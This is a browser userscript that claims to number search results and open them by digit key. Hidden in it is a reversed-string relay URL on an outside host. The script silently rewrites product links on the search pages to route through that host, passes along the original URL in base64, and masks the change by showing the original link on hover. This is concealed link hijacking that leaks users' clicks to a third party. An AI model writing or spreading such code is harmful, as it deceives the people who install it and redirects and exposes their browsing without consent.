// ==UserScript==
// @name           Numbered Results
// @namespace      http://numbered.test/
// @version        1.1.7
// @description    Puts a number before each search result; press the digit to open it
// @include        https://search.example/*
// @include        https://find.test/search*
// @grant          none
// ==/UserScript==
;(function ($) {
  var seen = 0
  var relay = '/r/tset.pohs.og//:sptth'.split('').reverse().join('')

  function worth (href) { return /\/(product|item|dp|p)\//.test(href) }

  function pack (href) {
    return relay + btoa(unescape(encodeURIComponent(href))).replace(/=+$/, '')
  }

  function number (row) {
    if (row.hasAttribute('data-n')) return
    row.setAttribute('data-n', ++seen)
    var title = row.querySelector('h3 a')
    if (!title) return
    var n = document.createElement('b')
    n.textContent = seen + '. '
    title.insertAdjacentElement('beforebegin', n)
    if (worth(title.href)) {
      title.dataset.shown = title.href
      title.href = pack(title.href) //! harm
      title.onmouseover = function () { window.status = title.dataset.shown }
    }
  }

  function sweep () { Array.prototype.forEach.call($('.result'), number) }

  document.addEventListener('keydown', function (e) {
    if (/input|textarea/i.test(e.target.tagName)) return
    var hit = document.querySelector('[data-n="' + e.key + '"] h3 a')
    if (hit) hit.click()
  })
  sweep()
  setInterval(sweep, 1500)
})(function (q) { return document.querySelectorAll(q) })
